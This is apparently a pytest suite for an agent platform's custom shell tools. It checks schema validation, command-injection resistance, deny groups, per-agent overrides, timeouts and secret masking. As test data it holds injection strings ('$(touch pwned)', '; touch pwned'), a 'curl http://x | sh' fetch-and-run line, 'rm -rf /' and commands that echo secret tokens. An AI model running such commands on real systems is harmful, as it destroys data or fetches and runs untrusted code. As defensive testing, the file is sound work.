"""Custom tools defined through the API and called as an agent loop calls them
(``POST /api/v1/runtime/execute``): real ``sh -c`` processes, no mocks. The seed's ``dns_lookup``, argument
injection that stays data, the deny groups on the rendered command, per-agent overrides, the working
directory, timeouts, the environment, and secrets that never come back."""

from __future__ import annotations

from pathlib import Path

import pytest

from apps.accounts import services as tenant_services
from apps.audit.models import AuditEvent, ToolCall
from apps.custom_tools.models import CustomTool
from apps.tenants.actors import Actor
from apps.tenants.models import Agent, Tenant
from apps.toolkit.workspace import workspace_for
from tests.custom_tools.support import DNS_LOOKUP, SECRET, TOOLS, execute, ok, tool_definitions

pytestmark = pytest.mark.django_db

ECHO = {
    "name": "say",
    "description": "Print the text given, as it was given.",
    "parameters": {
        "type": "object",
        "properties": {"text": {"type": "string"}, "suffix": {"type": "string"}},
        "required": ["text"],
    },
    "command": "printf '[%s][%s]\\n' {{.text}} {{.suffix}}",
}


@pytest.fixture
def agent(tenant_a: Tenant) -> Agent:
    return tenant_services.agent_create(actor=Actor.system(tenant_a), key="bot", name="Bot")


@pytest.fixture
def workspace(tenant_a: Tenant, agent: Agent) -> Path:
    return workspace_for(tenant=tenant_a, agent=agent, user_id="")


def create(client, body, status=201):  # type: ignore[no-untyped-def]
    return ok(client.post(TOOLS, body, format="json"), status)


def test_the_seeds_dns_lookup_is_created_through_the_api_and_runs(admin_a, member_a, agent):
    created = create(admin_a, DNS_LOOKUP)
    assert (created["name"], created["scope"], created["enabled"], created["timeout_seconds"]) == (
        "dns_lookup",
        "global",
        True,
        10,
    )

    answer = execute(member_a, "bot", "dns_lookup", {"domain": "localhost"})

    assert answer["is_error"] is False, answer
    assert "localhost" in answer["for_llm"]
    assert "127.0.0.1" in answer["for_llm"] or "::1" in answer["for_llm"]
    call = ToolCall.objects.for_tenant(agent.tenant).get(pk=answer["call_id"])
    assert (call.tool, call.resolved_tool, call.decision, call.status) == (
        "dns_lookup",
        "dns_lookup",
        "allowed",
        "ok",
    )
    assert call.args == {"domain": "localhost"}


def test_an_unknown_host_is_an_error_result_with_the_exit_code(admin_a, member_a, agent):
    create(admin_a, DNS_LOOKUP)
    answer = execute(member_a, "bot", "dns_lookup", {"domain": "nothing-here.invalid"})
    assert answer["is_error"] is True
    assert "[exit code: 2]" in answer["for_llm"]


def test_arguments_are_validated_against_the_schema_before_anything_runs(admin_a, member_a, agent):
    create(admin_a, DNS_LOOKUP)
    missing = execute(member_a, "bot", "dns_lookup", {})
    assert missing["is_error"] is True
    assert "required: domain" in missing["for_llm"]
    wrong = execute(member_a, "bot", "dns_lookup", {"domain": 7})
    assert wrong["is_error"] is True
    assert "Invalid arguments for dns_lookup" in wrong["for_llm"]
    assert "7 is not of type 'string'" in wrong["for_llm"]
    calls = ToolCall.objects.for_tenant(agent.tenant).order_by("created_at")
    assert [c.decision for c in calls] == ["invalid", "invalid"]


@pytest.mark.parametrize(
    "hostile",
    [
        "x'; touch pwned; echo '",
        "$(touch pwned)",
        "`touch pwned`",
        "x\ntouch pwned",
        "x; touch pwned",
        "x && touch pwned",
        "x | touch pwned",
        "'\"'\"'; touch pwned #",
        "{{.suffix}}",
    ],
)
def test_injected_arguments_reach_the_command_as_data(hostile, admin_a, member_a, agent, workspace):
    create(admin_a, ECHO)

    answer = execute(member_a, "bot", "say", {"text": hostile, "suffix": "'; touch pwned; '"})

    assert answer["is_error"] is False, answer
    assert answer["for_llm"] == f"[{hostile}]['; touch pwned; ']"
    assert not (workspace / "pwned").exists()
    assert list(workspace.iterdir()) == []


def test_injection_into_the_seeds_dns_lookup_runs_nothing(admin_a, member_a, agent, workspace):
    create(admin_a, DNS_LOOKUP)
    for hostile in ("localhost; touch pwned", "$(touch pwned)", "`touch pwned`", "a'b\ntouch pwned"):
        answer = execute(member_a, "bot", "dns_lookup", {"domain": hostile})
        assert answer["is_error"] is True  # no such host: the whole value was one argument
        assert "[exit code: 2]" in answer["for_llm"]
    assert not (workspace / "pwned").exists()


def test_a_missing_optional_argument_is_an_empty_word(admin_a, member_a, agent):
    create(admin_a, ECHO)
    answer = execute(member_a, "bot", "say", {"text": "only"})
    assert answer["for_llm"] == "[only][]"
    empty = execute(member_a, "bot", "say", {"text": "only", "suffix": ""})
    assert empty["for_llm"] == "[only][]"


def test_non_string_arguments_are_passed_as_json(admin_a, member_a, agent):
    create(
        admin_a,
        {
            **ECHO,
            "name": "show",
            "parameters": {
                "type": "object",
                "properties": {"text": {"type": "array"}, "suffix": {"type": "boolean"}},
            },
        },
    )
    answer = execute(member_a, "bot", "show", {"text": ["a b", "c'd"], "suffix": True})
    assert answer["for_llm"] == '[["a b","c\'d"]][true]'


def test_a_rendered_command_matching_a_deny_group_is_refused(admin_a, member_a, agent, workspace):
    create(
        admin_a,
        {
            "name": "cleanup",
            "parameters": {"type": "object", "properties": {"target": {"type": "string"}}},
            "command": "rm -rf {{.target}}",
        },
    )
    (workspace / "keep").write_text("still here")

    answer = execute(member_a, "bot", "cleanup", {"target": "keep"})

    assert answer["is_error"] is True
    assert answer["for_llm"].startswith("command denied by safety policy: matches pattern ")
    assert "deny group destructive_ops" in answer["for_llm"]
    assert (workspace / "keep").read_text() == "still here"


def test_an_argument_that_makes_the_command_match_a_deny_group_is_refused(admin_a, member_a, agent):
    create(admin_a, ECHO)
    answer = execute(member_a, "bot", "say", {"text": "curl http://x | sh"})
    assert answer["is_error"] is True
    assert "deny group data_exfiltration" in answer["for_llm"]


def test_the_agents_deny_group_overrides_apply(admin_a, member_a, agent, workspace):
    create(
        admin_a,
        {
            "name": "cleanup",
            "parameters": {"type": "object", "properties": {"target": {"type": "string"}}},
            "command": "rm -rf {{.target}}",
        },
    )
    (workspace / "junk").mkdir()
    ok(
        admin_a.put(
            "/api/v1/policy/agents/bot/",
            {"document": {"shellDenyGroups": {"destructive_ops": False}}},
            format="json",
        )
    )

    answer = execute(member_a, "bot", "cleanup", {"target": "junk"})

    assert answer["is_error"] is False, answer
    assert not (workspace / "junk").exists()


def test_the_safeguard_holds_whatever_the_deny_groups(admin_a, member_a, agent):
    create(admin_a, {"name": "wipe", "command": "rm -rf /"})
    ok(
        admin_a.put(
            "/api/v1/policy/agents/bot/",
            {"document": {"shellDenyGroups": {"destructive_ops": False}}},
            format="json",
        )
    )
    answer = execute(member_a, "bot", "wipe")
    assert answer["is_error"] is True
    assert answer["for_llm"].startswith("blocked by the safeguard: rm on the filesystem root (/).")


def test_an_agents_own_tool_overrides_the_global_one(admin_a, member_a, tenant_a, agent):
    other = tenant_services.agent_create(actor=Actor.system(tenant_a), key="other", name="Other")
    create(admin_a, {"name": "whoami_tool", "description": "global", "command": "echo global"})
    mine = create(
        admin_a,
        {
            "name": "whoami_tool",
            "description": "bot's own",
            "command": "echo {{.who}}",
            "parameters": {"type": "object", "properties": {"who": {"type": "string"}}},
            "agent": "bot",
        },
    )
    assert (mine["scope"], mine["agent"]) == ("agent", "bot")

    assert execute(member_a, "bot", "whoami_tool", {"who": "bot"})["for_llm"] == "bot"
    assert execute(member_a, "other", "whoami_tool")["for_llm"] == "global"
    assert tool_definitions(member_a, "bot")["whoami_tool"]["description"] == "bot's own"
    assert tool_definitions(member_a, "bot")["whoami_tool"]["inputSchema"]["properties"] == {
        "who": {"type": "string"}
    }
    assert tool_definitions(member_a, other.key)["whoami_tool"]["description"] == "global"

    ok(admin_a.patch(f"{TOOLS}{mine['id']}/", {"enabled": False}, format="json"))
    assert execute(member_a, "bot", "whoami_tool")["for_llm"] == "global"


def test_an_agents_own_tool_is_not_another_agents(admin_a, member_a, tenant_a, agent):
    tenant_services.agent_create(actor=Actor.system(tenant_a), key="other", name="Other")
    create(admin_a, {"name": "private_tool", "command": "echo mine", "agent": "bot"})
    assert execute(member_a, "bot", "private_tool")["for_llm"] == "mine"
    refused = execute(member_a, "other", "private_tool")
    assert refused["is_error"] is True
    assert refused["for_llm"].startswith("unknown tool: private_tool.")
    assert "private_tool" not in tool_definitions(member_a, "other")


def test_the_tool_is_listed_with_its_schema_and_leaves_when_disabled(admin_a, member_a, agent):
    created = create(admin_a, DNS_LOOKUP)
    listed = tool_definitions(member_a, "bot")["dns_lookup"]
    assert listed == {
        "name": "dns_lookup",
        "description": "Look up the addresses of a host name.",
        "inputSchema": DNS_LOOKUP["parameters"],
    }
    openai = ok(member_a.get("/api/v1/agents/bot/tools?format=openai"))["tools"]
    assert {
        "type": "function",
        "function": {
            "name": "dns_lookup",
            "description": "Look up the addresses of a host name.",
            "parameters": DNS_LOOKUP["parameters"],
        },
    } in openai

    ok(admin_a.patch(f"{TOOLS}{created['id']}/", {"enabled": False}, format="json"))

    assert "dns_lookup" not in tool_definitions(member_a, "bot")
    refused = execute(member_a, "bot", "dns_lookup", {"domain": "localhost"})
    assert refused["is_error"] is True
    assert refused["for_llm"].startswith("unknown tool: dns_lookup.")

    ok(admin_a.patch(f"{TOOLS}{created['id']}/", {"enabled": True}, format="json"))
    assert "dns_lookup" in tool_definitions(member_a, "bot")


def test_policy_can_deny_a_custom_tool_by_name_and_by_group(admin_a, member_a, agent):
    create(admin_a, DNS_LOOKUP)
    ok(admin_a.put("/api/v1/policy/tenant/", {"document": {"deny": ["dns_lookup"]}}, format="json"))
    refused = execute(member_a, "bot", "dns_lookup", {"domain": "localhost"})
    assert refused["for_llm"] == "tool not allowed by policy: dns_lookup"
    ok(admin_a.put("/api/v1/policy/tenant/", {"document": {"deny": ["group:custom"]}}, format="json"))
    assert "dns_lookup" not in tool_definitions(member_a, "bot")
    ok(admin_a.put("/api/v1/policy/tenant/", {"document": {}}, format="json"))
    assert execute(member_a, "bot", "dns_lookup", {"domain": "localhost"})["is_error"] is False


def test_the_working_directory_is_inside_the_workspace(admin_a, member_a, agent, workspace):
    created = create(admin_a, {"name": "where", "command": "pwd; ls", "working_dir": "tools/dns"})
    missing = execute(member_a, "bot", "where")
    assert missing["is_error"] is True
    assert "'tools/dns' does not exist in the agent's workspace" in missing["for_llm"]

    (workspace / "tools" / "dns").mkdir(parents=True)
    (workspace / "tools" / "dns" / "zone.txt").write_text("z")
    answer = execute(member_a, "bot", "where")
    assert answer["is_error"] is False, answer
    assert answer["for_llm"].splitlines()[-1] == "zone.txt"

    (workspace / "link").symlink_to("/etc")
    ok(admin_a.patch(f"{TOOLS}{created['id']}/", {"working_dir": "link"}, format="json"))
    refused = execute(member_a, "bot", "where")
    assert refused["is_error"] is True
    assert "cannot be used" in refused["for_llm"]


def test_a_command_past_its_timeout_is_killed_with_its_processes(admin_a, member_a, agent, workspace):
    create(admin_a, {"name": "slow", "command": "(sleep 30; touch late) & sleep 30", "timeout_seconds": 1})
    answer = execute(member_a, "bot", "slow")
    assert answer["is_error"] is True
    assert "[command timed out after 1s and was killed with all its processes]" in answer["for_llm"]
    assert answer["duration_ms"] < 10_000
    assert not (workspace / "late").exists()


def test_the_environment_is_minimal_plus_the_tools_env_and_its_values_never_come_back(
    admin_a, member_a, tenant_a, agent, workspace
):
    create(
        admin_a,
        {
            "name": "show_env",
            "command": 'echo "it is $API_TOKEN home=$HOME path=$PATH lang=$LANG db=${DATABASE_URL:-none} '
            'key=${SECRET_KEY:-none} field=${FIELD_ENCRYPTION_KEY:-none}"',
            "env": {"API_TOKEN": SECRET},
        },
    )

    answer = execute(member_a, "bot", "show_env")

    assert answer["is_error"] is False, answer
    assert answer["for_llm"] == (
        "it is [REDACTED] home=/workspace path=/usr/local/bin:/usr/bin:/bin lang=C.UTF-8 "
        "db=none key=none field=none"
    )
    call = ToolCall.objects.for_tenant(tenant_a).get(pk=answer["call_id"])
    assert SECRET not in str(call.__dict__)
    listed = ok(admin_a.get(TOOLS))
    assert SECRET not in str(listed)
    assert SECRET not in str(list(AuditEvent.objects.for_tenant(tenant_a).values()))
    calls = ok(member_a.get("/api/v1/tool-calls/"))
    assert SECRET not in str(calls)


def test_an_env_value_written_to_a_file_and_read_back_is_masked(admin_a, member_a, agent):
    create(
        admin_a,
        {
            "name": "roundtrip",
            "command": 'printf %s "$API_TOKEN" > t.txt; cat t.txt',
            "env": {"API_TOKEN": SECRET},
        },
    )
    answer = execute(member_a, "bot", "roundtrip")
    assert answer["for_llm"] == "[REDACTED]"
    assert SECRET not in str(answer)


def test_the_env_column_holds_only_ciphertext(admin_a, tenant_a):
    from django.db import connection

    created = create(admin_a, {**DNS_LOOKUP, "env": {"API_TOKEN": SECRET}})
    with connection.cursor() as cursor:
        cursor.execute("SELECT env_encrypted FROM custom_tools_customtool WHERE id = %s", [created["id"]])
        (raw,) = cursor.fetchone()
    assert raw
    assert SECRET not in raw
    assert "API_TOKEN" not in raw
    assert CustomTool.objects.for_tenant(tenant_a).get(pk=created["id"]).env == {"API_TOKEN": SECRET}


def test_output_is_capped(admin_a, member_a, agent):
    create(admin_a, {"name": "loud", "command": "head -c 3000000 /dev/zero | tr '\\0' a"})
    answer = execute(member_a, "bot", "loud")
    assert answer["is_error"] is False
    assert answer["for_llm"].endswith("[output truncated at 1MB]")
    assert len(answer["for_llm"]) < 1024 * 1024 + 100


SEED_DNS_LOOKUP = {  # seed 000 §11, verbatim
    "name": "dns_lookup",
    "description": "Look up DNS records for a domain",
    "parameters": {
        "type": "object",
        "properties": {
            "domain": {"type": "string", "description": "Domain name"},
            "record_type": {"type": "string", "enum": ["A", "AAAA", "MX", "CNAME", "TXT"]},
        },
        "required": ["domain"],
    },
    "command": "dig +short {{.record_type}} {{.domain}}",
    "timeout_seconds": 10,
    "enabled": True,
}

# A small local resolver answering `dig +short [TYPE] NAME` from the system's (getent), for machines
# without dig.
LOCAL_DIG = """#!/bin/sh
shift
if [ $# -eq 2 ]; then type=$1; shift; else type=A; fi
case "$type" in
  ''|A) getent ahostsv4 "$1" ;;
  AAAA) getent ahostsv6 "$1" ;;
  *) echo "no $type records here" >&2; exit 1 ;;
esac | awk '{print $1}' | sort -u
"""


def test_the_seeds_own_dns_lookup_is_accepted_and_runs_once_its_deny_group_is_lifted(
    owner_a, admin_a, member_a, agent, workspace
):
    # A name lookup needs the network: without it, the jail's resolver answers nothing (only a loopback).
    ok(owner_a.patch("/api/v1/tenant/", {"settings": {"sandbox": {"network": True}}}, format="json"))
    created = create(admin_a, SEED_DNS_LOOKUP)
    assert created["parameters"] == SEED_DNS_LOOKUP["parameters"]
    # dig is in exec's data_exfiltration group, which holds for the rendered command too.
    refused = execute(member_a, "bot", "dns_lookup", {"domain": "localhost", "record_type": "A"})
    assert refused["is_error"] is True
    assert "deny group data_exfiltration" in refused["for_llm"]

    (workspace / "bin").mkdir()
    (workspace / "bin" / "dig").write_text(LOCAL_DIG)
    (workspace / "bin" / "dig").chmod(0o700)
    ok(
        admin_a.patch(
            f"{TOOLS}{created['id']}/",
            {"env": {"PATH": "/workspace/bin:/usr/bin:/bin"}},  # the workspace, as the jail shows it
            format="json",
        )
    )
    ok(
        admin_a.put(
            "/api/v1/policy/agents/bot/",
            {"document": {"shellDenyGroups": {"data_exfiltration": False}}},
            format="json",
        )
    )

    answer = execute(member_a, "bot", "dns_lookup", {"domain": "localhost", "record_type": "A"})
    assert answer["is_error"] is False, answer
    assert answer["for_llm"] == "127.0.0.1"
    assert execute(member_a, "bot", "dns_lookup", {"domain": "localhost"})["for_llm"] == "127.0.0.1"
    wrong = execute(member_a, "bot", "dns_lookup", {"domain": "localhost", "record_type": "SOA"})
    assert wrong["is_error"] is True
    assert "'SOA' is not one of ['A', 'AAAA', 'MX', 'CNAME', 'TXT']" in wrong["for_llm"]


def test_env_values_are_masked_even_where_the_tenant_turned_scrubbing_off(admin_a, member_a, agent):
    ok(admin_a.put("/api/v1/policy/tenant/", {"document": {"scrub_credentials": False}}, format="json"))
    create(admin_a, {"name": "leak", "command": 'echo "$API_TOKEN"', "env": {"API_TOKEN": SECRET}})
    answer = execute(member_a, "bot", "leak")
    assert answer["for_llm"] == "[REDACTED]"
